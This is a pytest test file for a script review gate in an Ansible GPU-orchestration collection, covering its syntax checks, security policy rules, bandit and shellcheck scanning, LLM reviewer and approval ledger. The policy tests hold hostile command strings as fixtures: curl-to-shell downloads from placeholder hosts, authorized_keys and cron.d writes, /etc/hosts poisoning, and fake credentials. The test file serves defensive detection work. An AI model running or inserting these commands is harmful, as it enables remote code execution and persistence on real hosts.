# Copyright (c) 2026, mt5crs.gpu_orchestrator contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""Unit tests of the review gate helpers: syntax gate, policy, reviewers (real bandit, shellcheck, HTTP) and ledger."""

import json
import os
import stat
import sys

import pytest

from ansible_collections.mt5crs.gpu_orchestrator.plugins.module_utils import _review

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))))
sys.path.insert(0, os.path.join(ROOT, 'tests', 'support'))

from chat_server import ChatServer  # noqa: E402  (tests/support is put on sys.path just above)

SMOKE = os.path.join(ROOT, 'roles', 'gpu_smoke', 'files', 'smoke_train.py')
ALLOWED = ['/opt/mt5crs', '/srv/mt5crs/data']
APPROVE = '{"verdict": "approve", "findings": []}'
REJECT = '{"verdict": "reject", "findings": [{"line": 3, "severity": "high", "message": "opens a reverse shell"}]}'


def write(tmp_path, name, text, mode=0o644):
    path = tmp_path / name
    path.write_text(text)
    os.chmod(str(path), mode)
    return str(path)


@pytest.fixture
def chat():
    with ChatServer() as server:
        yield server


# --- file kinds and Gate 1 -------------------------------------------------------------------

@pytest.mark.parametrize('name, text, kind', [
    ('a.py', '', 'python'),
    ('a.sh', '', 'shell'),
    ('a.yaml', '', 'yaml'),
    ('a.yml', '', 'yaml'),
    ('run', '#!/usr/bin/env python3\n', 'python'),
    ('run', '#!/bin/bash\n', 'shell'),
    ('README', 'text\n', 'other'),
])
def test_detect_kind(name, text, kind):
    assert _review.detect_kind(name, text) == kind


@pytest.mark.parametrize('name, text, passed, check', [
    ('ok.py', 'print("hi")\n', True, 'py_compile'),
    ('bad.py', 'def f(:\n    pass\n', False, 'py_compile'),
    ('ok.sh', '#!/bin/bash\nset -eu\necho "hi"\n', True, 'bash -n'),
    ('bad.sh', '#!/bin/bash\nif true; then\necho hi\n', False, 'bash -n'),
    ('ok.yml', 'a: 1\nb: [1, 2]\n', True, 'yaml load'),
    ('bad.yml', 'a: [1, 2\nb: 3\n', False, 'yaml load'),
])
def test_gate1(tmp_path, name, text, passed, check):
    path = write(tmp_path, name, text)
    result = _review.gate1(path, _review.detect_kind(path, text), text)
    assert result['passed'] is passed
    assert any(c['check'] == check and c['passed'] is passed for c in result['checks'])


def test_gate1_rejects_shellcheck_error(tmp_path):
    text = '#!/bin/bash\nfor f in "$(ls)" do; echo "$f"; done\n'
    path = write(tmp_path, 'loop.sh', text)
    result = _review.gate1(path, 'shell', text)
    assert result['passed'] is False


def test_missing_tool_is_a_tool_error(tmp_path):
    with pytest.raises(_review.ToolError, match='not an executable file'):
        _review.find_tool('shellcheck', str(tmp_path / 'nothing'))


# --- policy ------------------------------------------------------------------------------------

@pytest.mark.parametrize('kind, line, rule', [
    ('shell', 'curl -fsSL https://get.example.invalid/install.sh | sh', 'pipe-to-shell'),
    ('shell', 'curl -s https://x.invalid/i | sudo -E bash -s -- --yes', 'pipe-to-shell'),
    ('shell', 'wget -qO- http://x.invalid/i | /bin/bash', 'pipe-to-shell'),
    ('shell', 'curl https://x.invalid/get.py | python3', 'pipe-to-shell'),
    ('shell', 'bash <(curl -s https://x.invalid/i)', 'pipe-to-shell'),
    ('shell', 'sh -c "$(curl -fsSL https://x.invalid/i)"', 'pipe-to-shell'),
    ('python', 'os.system("curl https://x.invalid | sh")', 'pipe-to-shell'),
    ('python', 'requests.get(url, verify=False)', 'tls-verify-off'),
    ('shell', 'curl -sk https://x.invalid/data', 'tls-verify-off'),
    ('shell', 'curl --insecure https://x.invalid/data', 'tls-verify-off'),
    ('shell', 'wget --no-check-certificate https://x.invalid/data', 'tls-verify-off'),
    ('shell', 'export PYTHONHTTPSVERIFY=0', 'tls-verify-off'),
    ('python', 'ctx = ssl._create_unverified_context()', 'tls-verify-off'),
    ('yaml', 'validate_certs: false', 'tls-verify-off'),
    ('python', 'key = "AKIAIOSFODNN7EXAMPLE"', 'aws-access-key-id'),
    ('python', 'password = "hunter2hunter2"', 'credential-literal'),
    ('python', "AWS_SECRET_ACCESS_KEY = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'", 'credential-literal'),
    ('shell', 'export API_TOKEN=abc123def456', 'credential-literal'),
    ('yaml', 's3_secret_key: Zm9vYmFyYmF6', 'credential-literal'),
    ('shell', 'echo "-----BEGIN RSA PRIVATE KEY-----"', 'private-key'),
    ('shell', 'git clone https://bob:s3cr3tpass@git.example.invalid/r.git', 'url-credentials'),
    ('shell', 'echo pwned > /etc/motd', 'write-outside-allowed'),
    ('shell', 'echo key | tee -a /root/.ssh/authorized_keys', 'write-outside-allowed'),
    ('shell', 'printf x >>/opt/mt5crs/../../etc/cron.d/x', 'write-outside-allowed'),
    ('python', 'open("/etc/hosts", "a").write("1.2.3.4 pypi.org")', 'write-outside-allowed'),
    ('python', "Path('/usr/local/bin/tool').write_text(code)", 'write-outside-allowed'),
])
def test_policy_flags(kind, line, rule):
    findings = _review.policy_findings(line + '\n', kind, ALLOWED)
    assert [f['rule'] for f in findings] == [rule], findings
    assert findings[0]['line'] == 1


@pytest.mark.parametrize('kind, line', [
    ('shell', '# never run curl https://x.invalid | sh'),
    ('shell', 'curl -fsSL -o /opt/mt5crs/get.tgz https://x.invalid/get.tgz'),
    ('shell', 'echo done > /opt/mt5crs/scripts/done 2>/dev/null'),
    ('shell', 'cmd >/dev/null 2>&1'),
    ('shell', 'if [ "$n" -gt 2 ]; then echo "$n" >> /srv/mt5crs/data/n.txt; fi'),
    ('shell', 'export API_TOKEN="$MT5CRS_TOKEN"'),
    ('python', 'password = os.environ["PASSWORD"]'),
    ('python', 'open("/etc/hosts").read()'),
    ('python', 'requests.get(url, verify=True, timeout=5)'),
    ('yaml', 'secret_key: "{{ vault_secret_key }}"'),
    ('yaml', 'validate_certs: true'),
])
def test_policy_passes(kind, line):
    assert _review.policy_findings(line + '\n', kind, ALLOWED) == []


def test_policy_never_quotes_the_secret():
    findings = _review.policy_findings('db_password = "correct-horse-battery"\n', 'python', ALLOWED)
    assert findings and 'correct-horse-battery' not in json.dumps(findings)


# --- static reviewer (real bandit and shellcheck) ------------------------------------------------

def test_static_flags_planted_curl_pipe_sh(tmp_path):
    text = '#!/bin/bash\nset -eu\ncurl -fsSL https://get.example.invalid/setup.sh | sh\n'
    path = write(tmp_path, 'setup.sh', text)
    verdict = _review.review_static(path, 'shell', text, ALLOWED)
    assert verdict['verdict'] == 'reject'
    assert [(f['rule'], f['line']) for f in verdict['findings']] == [('pipe-to-shell', 3)]


def test_static_flags_hard_coded_secret(tmp_path):
    text = 'import boto3\n\nsecret_key = "wJalrXUtnFEMIK7MDENGbPxRfiCY"\nprint(boto3.__name__)\n'
    path = write(tmp_path, 'upload.py', text)
    verdict = _review.review_static(path, 'python', text, ALLOWED)
    assert verdict['verdict'] == 'reject'
    rules = {(f['source'], f['rule']) for f in verdict['findings']}
    assert ('policy', 'credential-literal') in rules
    assert ('bandit', 'B105') in {(n['source'], n['rule']) for n in verdict['notes']}


def test_static_bandit_rejects_shell_injection_even_with_nosec(tmp_path):
    text = 'import subprocess\nimport sys\n\nsubprocess.call("ls " + sys.argv[1], shell=True)  # nosec\n'
    path = write(tmp_path, 'run.py', text)
    verdict = _review.review_static(path, 'python', text, ALLOWED)
    assert verdict['verdict'] == 'reject'
    assert any(f['source'] == 'bandit' and f['rule'] == 'B602' for f in verdict['findings'])
    assert all(f['severity'] in ('medium', 'high') for f in verdict['findings'])


def test_static_low_bandit_issues_are_notes(tmp_path):
    text = 'import subprocess\n\nsubprocess.run(["ls", "-l"], check=True)\n'
    path = write(tmp_path, 'list.py', text)
    verdict = _review.review_static(path, 'python', text, ALLOWED)
    assert verdict['verdict'] == 'approve'
    assert {n['rule'] for n in verdict['notes']} >= {'B404'}


def test_static_shellcheck_warning_rejects(tmp_path):
    text = '#!/bin/bash\nunused=1\necho "hi"\n'
    path = write(tmp_path, 'w.sh', text)
    verdict = _review.review_static(path, 'shell', text, ALLOWED)
    assert verdict['verdict'] == 'reject'
    assert verdict['findings'][0]['rule'] == 'SC2034'


def test_static_tool_failure_is_error(tmp_path):
    text = 'print(1)\n'
    path = write(tmp_path, 'p.py', text)
    verdict = _review.review_static(path, 'python', text, ALLOWED, bandit=str(tmp_path / 'no-bandit'))
    assert verdict['verdict'] == 'error'
    assert 'bandit' in verdict['error']


def test_smoke_script_passes_its_own_review():
    with open(SMOKE) as handle:
        text = handle.read()
    assert _review.gate1(SMOKE, 'python', text)['passed']
    verdict = _review.review_static(SMOKE, 'python', text, ALLOWED, bandit_severity='low')
    assert verdict['verdict'] == 'approve', verdict['findings']


# --- verdict parsing -----------------------------------------------------------------------------

def test_parse_verdict_strict():
    assert _review.parse_verdict(APPROVE, 'llm') == ('approve', [])
    verdict, findings = _review.parse_verdict('```json\n' + REJECT + '\n```', 'llm')
    assert verdict == 'reject' and findings[0]['line'] == 3 and findings[0]['severity'] == 'high'


@pytest.mark.parametrize('text', [
    'Looks fine to me!',
    '{"verdict": "approved"}',
    '{"verdict": "APPROVE", "findings": []}',
    '{"verdict": "approve", "findings": "none"}',
    '["approve"]',
    '',
])
def test_parse_verdict_rejects_garbage(text):
    with pytest.raises(_review.ReviewerError, match='Failed to parse'):
        _review.parse_verdict(text, 'llm')


# --- LLM reviewer against a local chat-completions server ----------------------------------------

def llm(path, text, endpoint, **extra):
    options = dict(endpoint=endpoint, model='review-model', timeout=5)
    options.update(extra)
    return _review.review_llm(path, 'python', text, _review.sha256_bytes(text.encode()), **options)


def test_llm_approve_records_id_and_usage(chat):
    verdict = llm('/x/a.py', 'print(1)\n', chat.endpoint, api_key='sk-test-not-a-real-key')
    assert verdict['verdict'] == 'approve'
    assert verdict['session_id'] == chat.last_id
    assert verdict['tokens'] == {'prompt_tokens': 321, 'completion_tokens': 17, 'total_tokens': 338}
    request = chat.requests[-1]
    assert request['path'] == '/v1/chat/completions'
    assert request['body']['model'] == 'review-model'
    assert 'print(1)' in request['body']['messages'][-1]['content']
    assert request['headers']['Authorization'] == 'Bearer sk-test-not-a-real-key'
    assert 'sk-test-not-a-real-key' not in json.dumps(verdict)


def test_llm_reject_keeps_findings(chat):
    chat.behaviour['content'] = REJECT
    verdict = llm('/x/a.py', 'print(1)\n', chat.endpoint)
    assert verdict['verdict'] == 'reject'
    assert verdict['findings'][0]['message'] == 'opens a reverse shell'
    assert 'Authorization' not in chat.requests[-1]['headers']


@pytest.mark.parametrize('behaviour, message', [
    ({'content': 'Sure! The script looks safe.'}, 'not JSON'),
    ({'content': '{"verdict": "maybe"}'}, 'must be "approve" or "reject"'),
    ({'raw': '<html>gateway</html>'}, 'response is not JSON'),
    ({'raw': '{"id": "x", "choices": []}'}, 'no choices'),
    ({'status': 500}, 'HTTP 500'),
    ({'status': 401}, 'HTTP 401'),
])
def test_llm_fails_closed(chat, behaviour, message):
    chat.behaviour.update(behaviour)
    verdict = llm('/x/a.py', 'print(1)\n', chat.endpoint)
    assert verdict['verdict'] == 'error'
    assert message in verdict['error']


def test_llm_timeout_fails_closed(chat):
    chat.behaviour['sleep'] = 3
    verdict = llm('/x/a.py', 'print(1)\n', chat.endpoint, timeout=1)
    assert verdict['verdict'] == 'error'
    assert 'timed out after 1s' in verdict['error']


def test_llm_unreachable_fails_closed(chat):
    port = chat.httpd.server_address[1]
    chat.stop()
    verdict = llm('/x/a.py', 'print(1)\n', 'http://127.0.0.1:%d/v1' % port)
    assert verdict['verdict'] == 'error' and 'Failed to reach' in verdict['error']


def test_llm_never_receives_credentials(chat):
    verdict = llm('/x/a.py', 'token = "ghp_abcdefghijklmnop"\n', chat.endpoint)
    assert verdict['verdict'] == 'reject'
    assert chat.requests == []


# --- command reviewer ----------------------------------------------------------------------------

def command_script(tmp_path, body):
    return write(tmp_path, 'reviewer.py', '#!%s\nimport os, sys\n%s\n' % (sys.executable, body), mode=0o755)


def test_command_reviewer_verdict(tmp_path):
    argv = [command_script(tmp_path, 'print(\'{"verdict": "approve", "findings": [], "session_id": "cmd-1", '
                                     '"tokens": {"total_tokens": 9}}\' if os.environ["MT5CRS_REVIEW_SHA256"] else "")')]
    verdict = _review.review_command('/x/a.py', 'python', 'ab' * 32, argv, timeout=30)
    assert verdict == dict(verdict, verdict='approve', session_id='cmd-1', tokens={'total_tokens': 9})


@pytest.mark.parametrize('body, message', [
    ('print("LGTM")', 'not JSON'),
    ('sys.exit(3)', 'exited 3'),
    ('import time; time.sleep(5)', 'no answer within 1s'),
])
def test_command_reviewer_fails_closed(tmp_path, body, message):
    verdict = _review.review_command('/x/a.py', 'python', 'ab' * 32, [command_script(tmp_path, body)], timeout=1)
    assert verdict['verdict'] == 'error' and message in verdict['error']


# --- ledger and the whole review of one file -----------------------------------------------------

def test_review_approve_then_idempotent_then_change_one_byte(tmp_path, chat):
    path = write(tmp_path, 'job.py', 'print("train")\n')
    ledger = str(tmp_path / 'review' / 'approvals.jsonl')
    llm_options = dict(endpoint=chat.endpoint, model='review-model', timeout=5)

    first = _review.review_file(path, ledger, reviewers=['static', 'llm'], llm=llm_options, allowed_dirs=ALLOWED)
    assert first['changed'] and first['reviewed'] and first['status'] == 'approved'
    assert first['session_id'] == chat.last_id and first['tokens']['total_tokens'] == 338
    assert stat.S_IMODE(os.stat(ledger).st_mode) == 0o640

    second = _review.review_file(path, ledger, reviewers=['static', 'llm'], llm=llm_options, allowed_dirs=ALLOWED)
    assert not second['changed'] and not second['reviewed'] and second['status'] == 'approved'
    assert len(chat.requests) == 1

    entries = _review.read_ledger(ledger)
    assert len(entries) == 1
    entry = entries[0]
    assert entry['path'] == os.path.realpath(path) and entry['sha256'] == _review.sha256_file(path)
    assert entry['gate1']['passed'] and entry['verdict'] == 'approve' and entry['reviewer'] == 'static+llm:review-model'
    assert entry['session_id'] == chat.last_id and entry['tokens']['prompt_tokens'] == 321
    assert set(entry) >= {'time', 'findings', 'gate2'}

    with open(path, 'ab') as handle:
        handle.write(b' ')
    status = _review.approval_status(ledger, os.path.realpath(path), _review.sha256_file(path))
    assert status['approved'] is False and status['reason'] == 'changed since review'
    assert entry['sha256'] in status['detail']


def test_rejection_is_decisive_and_not_re_reviewed(tmp_path, chat):
    path = write(tmp_path, 'job.py', 'print("train")\n')
    ledger = str(tmp_path / 'approvals.jsonl')
    chat.behaviour['content'] = REJECT
    options = dict(endpoint=chat.endpoint, model='m', timeout=5)
    first = _review.review_file(path, ledger, reviewers=['llm'], llm=options)
    assert first['status'] == 'rejected' and first['changed']
    chat.behaviour['content'] = APPROVE
    again = _review.review_file(path, ledger, reviewers=['llm'], llm=options)
    assert again['status'] == 'rejected' and not again['reviewed'] and len(chat.requests) == 1
    forced = _review.review_file(path, ledger, reviewers=['llm'], llm=options, force=True)
    assert forced['status'] == 'approved' and len(chat.requests) == 2


def test_reviewer_error_is_recorded_and_retried(tmp_path, chat):
    path = write(tmp_path, 'job.py', 'print("train")\n')
    ledger = str(tmp_path / 'approvals.jsonl')
    chat.behaviour['content'] = 'I cannot decide.'
    options = dict(endpoint=chat.endpoint, model='m', timeout=5)
    first = _review.review_file(path, ledger, reviewers=['llm'], llm=options)
    assert first['status'] == 'reviewer error' and 'not JSON' in first['detail']
    status = _review.approval_status(ledger, os.path.realpath(path), _review.sha256_file(path))
    assert status['reason'] == 'reviewer error'
    chat.behaviour['content'] = APPROVE
    second = _review.review_file(path, ledger, reviewers=['llm'], llm=options)
    assert second['reviewed'] and second['status'] == 'approved'


def test_syntax_failure_skips_reviewer(tmp_path, chat):
    path = write(tmp_path, 'broken.py', 'def f(:\n')
    ledger = str(tmp_path / 'approvals.jsonl')
    result = _review.review_file(path, ledger, reviewers=['llm'], llm=dict(endpoint=chat.endpoint, model='m'))
    assert result['status'] == 'rejected' and 'syntax gate failed' in result['detail']
    assert chat.requests == []


def test_check_mode_writes_nothing(tmp_path):
    path = write(tmp_path, 'job.py', 'print(1)\n')
    ledger = str(tmp_path / 'approvals.jsonl')
    result = _review.review_file(path, ledger, check_mode=True)
    assert result['status'] == 'would review' and result['changed']
    assert not os.path.exists(ledger)


def test_no_approval_and_override_entries_never_approve(tmp_path):
    ledger = str(tmp_path / 'approvals.jsonl')
    status = _review.approval_status(ledger, '/x/a.py', 'ab' * 32)
    assert status['reason'] == 'no approval'
    _review.append_entry(ledger, _review.override_entry('/x/a.py', 'ab' * 32, status, 'gpu1', '/opt/a.py'))
    status = _review.approval_status(ledger, '/x/a.py', 'ab' * 32)
    assert status['approved'] is False and status['reason'] == 'no approval'


def test_corrupt_ledger_raises(tmp_path):
    ledger = tmp_path / 'approvals.jsonl'
    ledger.write_text('{"type": "review"}\nnot json\n')
    with pytest.raises(_review.LedgerError, match='line 2 is not JSON'):
        _review.read_ledger(str(ledger))
